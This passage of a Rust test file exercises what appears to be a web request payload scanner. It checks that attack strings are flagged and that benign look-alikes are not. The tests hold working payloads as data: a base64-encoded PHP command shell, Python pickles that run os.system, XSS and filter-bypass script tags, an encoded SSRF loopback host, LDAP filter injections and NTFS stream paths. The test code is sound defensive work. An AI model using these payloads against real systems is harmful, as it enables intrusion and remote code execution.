        (Family::Ssrf, "circled", query("http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0/")),
        (Family::Xss, "base64 json", body(r#"{"data":"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}"#)),
        (Family::Code, "base64 json php", body(r#"{"data":"PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="}"#)),
    ];
    for (family, name, f) in cases {
        assert!(f.confirmed(family) > 0, "{family:?} not confirmed: {name}: {f:?}");
    }
    let proto4 = b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.";
    let f = scan_value(proto4, Decode::None, Location::Body, &mut Scratch::default());
    assert_eq!(f.confirmed(Family::Code), 1, "{f:?}");
    assert!(body(r#"{"data":"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}"#).obfuscated, "base64 is an encoding beyond the app's");
    // Pickles as apps keep them in cookies: base64 of protocol 4 and 2 (`os.system('id')`).
    for cookie in ["session=gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "s=gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=="] {
        let f = scan(&PayloadInput { cookies: cookie, ..Default::default() }, &mut Scratch::default());
        assert!(f.confirmed_in(Family::Code, Location::Cookie), "{cookie}: {f:?}");
    }
    // A Fernet token and a pickle of plain data stay benign.
    for cookie in ["t=gAAAAABnV3Zr9X8uWQ2mY1lT3h2s6QHcR8mJ4xF0vKpE5N7aB3cD9eF1gH2iJ4kL6mN8oP0qR2sT4uV6wX8yZ0==", "p=gASVMAAAAAAAAAB9lCiMBHVzZXKUjARhbm5hlIwEY2FydJRdlChLAUsCSwNljARsYW5nlIwCZW6UdS4="] {
        let f = scan(&PayloadInput { cookies: cookie, ..Default::default() }, &mut Scratch::default());
        assert!(!f.any_confirmed(), "{cookie}: {f:?}");
    }
}

#[test]
fn near_misses_of_the_second_red_team_classes_stay_unconfirmed() {
    let texts = [
        // Pickle and YAML look-alikes.
        "Basic cos\nsystem\nof equations; Result.",
        "pickle.loads(data) calls os.system if the data says so",
        "tags: !!str 5\nlist: !!seq [a, b]",
        "Is !!python/object/apply dangerous? yaml.safe_load refuses it",
        // .NET and Java type names where apps and developers have them.
        r#"{"$type":"MyApp.Models.Order, MyApp","Id":3}"#,
        "MyApp.Models.Order, MyApp",
        "System.Diagnostics.Process",
        "How do I start System.Diagnostics.Process with arguments?",
        "System.Diagnostics.Process and System.IO are in the list",
        "see [com.sun.rowset.JdbcRowSetImpl](https://docs.example/x)",
        // PHP arrays without objects; Python imports in prose.
        "a:2:{i:0;s:1:\"a\";i:1;s:1:\"b\";}",
        "import os; os.system is deprecated, use subprocess",
        // JS that indexes globals by names it holds, or spells a harmless one.
        "window[name](1)",
        "window['on'+'load'] = init",
        "window['my' + 'Handler'](event)",
        "var g = ({}).constructor.constructor('return this')();",
        "Notification type (alert) (optional)",
        "(alert)",
        // CSS that only looks like IE's behavior.
        "html { scroll-behavior: smooth }",
        // Line breaks and U+560D in Chinese text.
        "他們都是嘍囉\nX-Men: 好看",
        "大家好嘍\nLocation: https://maps.example/x",
        // Hosts a URL parser folds, that stay ordinary.
        "http://ⓔⓧⓐⓜⓟⓛⓔ.com/",
        "https://例子.测试/路径",
        // Base64 that is no text, or text that is harmless.
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "SGVsbG8sIHdvcmxkISBTZWUgeW91IGF0IDEwOjMwLg==",
        "eyJyZWRpcmVjdCI6Imh0dHA6Ly9sb2NhbGhvc3Q6MzAwMC9jYWxsYmFjayJ9",
        "d41d8cd98f00b204e9800998ecf8427e",
        "550e8400-e29b-41d4-a716-446655440000",
    ];
    for t in texts {
        let f = value(t);
        assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
        let f = body(&format!("{{\"v\":{}}}", serde_json::to_string(t).unwrap()));
        assert!(!f.any_confirmed(), "{t} in JSON: {:?}", confirmed(&f));
    }
    // The same texts in a referer's share link and a user agent.
    let share = request("/", &[("referer", "https://social.example/share?text=Party%20tonight!%0D%0ASet-Cookie:%20ok=1")], &[]);
    assert_eq!(share.confirmed(Family::Crlf), 0, "{share:?}");
    let ua = request("/", &[("user-agent", &format!("{CHROME_UA} MyApp/1.0 (+https://myapp.example/bot)"))], &[]);
    assert!(!ua.any_confirmed(), "{ua:?}");
}

#[test]
fn a_leading_or_before_an_unterminated_quote_is_scanned_without_panic() {
    for v in ["or 'x", "and \"update", "' or 'a", "|| 'b"] {
        let _ = value(v);
        let _ = scan(&PayloadInput { path: &format!("/s?q={}", v.replace(' ', "+")), ..Default::default() }, &mut Scratch::default());
    }
}

#[test]
fn ntfs_streams_are_confirmed_in_paths_and_static_members_are_not() {
    for path in ["/index.php::$DATA", "/app/default.aspx%3A%3A%24DATA", "/admin::$INDEX_ALLOCATION/secret.txt", "/dl?file=web.config::$DATA"] {
        let f = request(path, &[], &[]);
        assert_eq!(f.confirmed(Family::Traversal), 1, "{path}: {f:?}");
    }
    for t in ["return self::$data;", "echo Config::$DATA;", "$rows = Model::$data . PHP_EOL;", "Foo::$bar"] {
        let f = value(t);
        assert_eq!(f.confirmed(Family::Traversal), 0, "{t}: {f:?}");
    }
}

#[test]
fn tags_a_strip_once_filter_rebuilds_are_confirmed_and_generics_are_not() {
    for p in ["<scr<script>ipt src=https://x/y.js></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "%3Cscr%3Cscript%3Eipt%3Ealert(1)%3C/scr%3C/script%3Eipt%3E"] {
        let f = value(p);
        assert_eq!(f.confirmed(Family::Xss), 1, "{p}: {f:?}");
    }
    for t in ["let v: Vec<Vec<u8>> = Vec::new();", "List<Map<String>> rows;", "a<b<c>d"] {
        let f = value(t);
        assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
    }
}

#[test]
fn data_uris_are_read_for_what_their_base64_holds() {
    let php = "data:;base64,PD9waHAgZWNobyAndzRwMXQxJywnX2V2YWwnOyA/Pg==";
    let f = value(php);
    assert_eq!(f.confirmed(Family::Code), 1, "{f:?}");
    assert!(f.obfuscated, "{f:?}");
    let f = request(&format!("/index.php?page={}", php.replace('+', "%2B").replace('=', "%3D")), &[], &[]);
    assert!(f.confirmed_in(Family::Code, Location::Query), "{f:?}");
    let f = value("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==");
    assert_eq!(f.confirmed(Family::Xss), 1, "{f:?}");
    // `{{7*7}}` behind a link's data URL.
    let f = value("<a href=\"data:text/plain;base64,e3s3Kjd9fSBhbmQgbW9yZSB0ZXh0\">x</a>");
    assert_eq!(f.confirmed(Family::Template), 1, "{f:?}");
    for t in [
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "<img src=\"data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7\">",
        // Plain text, a JSON document and an XML declaration as data URLs (`data:text/xml` is a
        // script URL to `xss` whatever it holds, as before).
        "data:text/plain;base64,SGVsbG8sIHdvcmxkISBIb3cgYXJlIHlvdT8=",
        "data:application/json;base64,eyJuYW1lIjoiQW5uYSIsImFnZSI6MzB9",
        "data:application/xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PHI+aGk8L3I+",
    ] {
        let f = value(t);
        assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
    }
}

#[test]
fn ldap_filter_injections_are_confirmed_and_parentheses_in_text_are_not() {
    for p in ["*)(|(objectclass=*))", "admin)(&)", "x)(|(uid=*)(userPassword=*))", "*)(uid=*))(|(uid=*"] {
        let f = value(p);
        assert_eq!(confirmed(&f), [Family::Ldap], "{p}: {f:?}");
    }
    let f = request("/login?user=%2A%29%28%7C%28objectclass%3D%2A%29%29", &[], &[]);
    assert!(f.confirmed_in(Family::Ldap, Location::Query), "{f:?}");
    let f = body("{\"user\":\"*(|(mail=*))\",\"password\":\"x\"}");
    assert!(f.confirmed_in(Family::Ldap, Location::Body), "{f:?}");
    for t in ["(a|b)", "f(x)=(|x|)", "Thanks :)(&) see you", "const re = /(a|(b=c))/;", "anna@example.com", "https://example.com/a_(b)"] {
        let f = value(t);
        assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
    }
    let f = value("(&(objectClass=user)(|(cn=anna)(cn=bob)))");
    assert_eq!((f.confirmed(Family::Ldap), f.suspicious(Family::Ldap)), (0, 1), "a pasted filter: {f:?}");
}
